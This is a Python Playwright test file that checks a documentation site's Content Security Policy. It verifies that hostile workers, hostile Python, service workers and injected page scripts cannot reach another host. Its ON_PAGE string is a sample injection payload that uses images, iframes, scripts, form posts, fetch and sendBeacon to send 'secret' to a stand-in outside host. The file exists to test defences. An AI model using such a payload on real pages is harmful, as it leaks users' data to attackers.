"""The content policy of the pages: it binds them, and the worker that runs Python."""

from collections.abc import Callable, Iterator
from contextlib import ExitStack
from pathlib import Path

import pytest
from hostile_worker import (
    PYTHON_WAYS,
    WAYS,
    Attack,
    by_python,
    by_script,
    hostile,
    make_hostile,
    other_host,
)
from long_form import in_long_form
from playwright.sync_api import Browser, Page, expect
from publishing import Host
from reader import Reader
from site_server import served
from visits import FIRST, keep_whole
from waiting import wait_until

DATES = "plan/dates/"
NEVER = {"sendBeacon", "worker of another host", "font"}
"""What Chromium lets no worker do anyway."""

AFTERWARDS = 1_000
"""Milliseconds in which what was tried may still get out."""

ON_PAGE = """(other) => {
    const image = new Image();
    image.src = `${other}image`;
    const frame = document.createElement("iframe");
    frame.src = `${other}frame`;
    const link = Object.assign(document.createElement("link"), { rel: "stylesheet", href: `${other}style` });
    const script = Object.assign(document.createElement("script"), { src: `${other}script` });
    const inline = Object.assign(document.createElement("script"), { textContent: "self.inline = true" });
    const form = Object.assign(document.createElement("form"), { action: `${other}form`, method: "post" });
    document.body.append(image, frame, link, script, inline, form);
    document.body.insertAdjacentHTML("beforeend", "<b onclick='self.handler = true'>x</b>");
    document.body.lastElementChild.click();
    form.submit();
    fetch(`${other}page-fetch`, { mode: "no-cors" }).catch(() => {});
    navigator.sendBeacon(`${other}page-beacon`, "secret");
}"""
"""What a script in the page could try."""


@pytest.fixture(name="attacked")
def _attacked(browser: Browser, site: Path) -> Iterator[Callable[..., Reader]]:
    """Opens a page whose worker is hostile, in a browser with nothing kept, and waits until all has
    been tried. Its Python runs what no reader's does, so the second part of its module may come."""
    with ExitStack() as stack:

        def attacked(attack: Attack, *, has_policy: bool) -> Reader:
            address = stack.enter_context(served(site, hostile(attack, has_policy=has_policy)))
            context = browser.new_context(service_workers="block")
            stack.callback(context.close)
            reader = Reader(context.new_page(), address)
            reader.open(DATES)
            wait_until(reader.page, "self.tried")
            reader.page.wait_for_timeout(AFTERWARDS)
            return reader

        yield attacked


@pytest.mark.parametrize("has_policy", [True, *in_long_form((False,))], ids=str)
def test_a_hostile_worker_gets_nothing_out(
    attacked: Callable[..., Reader], *, has_policy: bool
) -> None:
    """Python is up all the same: what it is made of comes from this site. Without the policy the
    attack would get out, so the test says something."""
    with other_host() as (other, asked):
        reader = attacked(by_script(other), has_policy=has_policy)

        assert reader.page.evaluate("self.tried") == ",".join(WAYS)
    assert has_policy or set(asked) >= set(WAYS) - NEVER
    assert not has_policy or asked == []


@pytest.mark.parametrize(
    ("has_policy", "has_fence"),
    [(True, True), *in_long_form((True, False), (False, True), (False, False))],
    ids=str,
)
def test_hostile_python_gets_nothing_out(
    attacked: Callable[..., Reader], *, has_policy: bool, has_fence: bool
) -> None:
    """The policy and the fence each are enough. Without both it would get out."""
    with other_host() as (other, asked):
        attack = by_python(other, has_fence=has_fence)
        reader = attacked(attack, has_policy=has_policy)

        assert reader.page.evaluate("self.tried") == ",".join(PYTHON_WAYS)
    assert (asked == []) == (has_policy or has_fence), asked


@pytest.mark.slow
@pytest.mark.parametrize("attack_by", [by_script, by_python], ids=["a script", "Python"])
def test_with_a_service_worker_nothing_gets_out_either(
    browser: Browser, tmp_path: Path, attack_by: Callable[[str], Attack]
) -> None:
    """It answers for the page, and is bound by no policy of the page's."""
    with other_host() as (other, asked):
        host = Host(tmp_path)
        host.publish(FIRST, change=lambda site: make_hostile(site, attack_by(other)))
        context = browser.new_context()
        tab = Reader(context.new_page(), host.address)
        keep_whole(tab)
        tab.page.evaluate("self.tried = ''")
        tab.open(DATES)
        wait_until(tab.page, "self.tried")
        tab.page.wait_for_timeout(AFTERWARDS)

        assert tab.page.evaluate("navigator.serviceWorker.controller !== null")
        assert asked == []
        context.close()
        host.stop()


def test_a_script_in_the_page_gets_nothing_out_either(reader: Reader) -> None:
    """Nor does text that is put into it run."""
    with other_host() as (other, asked):
        reader.open(DATES)
        reader.page.evaluate(ON_PAGE, other)
        reader.page.wait_for_timeout(500)

        assert asked == []
    assert reader.page.evaluate("[self.inline, self.handler]") == [None, None]


def test_the_browser_objects_to_nothing_that_the_site_does(reader: Reader) -> None:
    """On the way through its tools, by links and by full loads."""
    said = watched(reader.page)
    for path in ("", "guide/at-the-interview/", "plan/dates/", "plan/checklist/", "plan/keep/"):
        reader.go(path)
    reader.page.reload()
    reader.wait_for("ready")
    box = reader.page.get_by_role("textbox", name="Search")
    box.fill("voicemail")
    box.press("Shift")
    expect(reader.page.locator(".md-search-result__link").first).to_be_visible()

    assert said == []


def watched(page: Page) -> list[str]:
    """Return what the console says of policies from now on."""
    said: list[str] = []
    page.on(
        "console",
        lambda message: said.extend([message.text] if "Content Security" in message.text else []),
    )
    return said
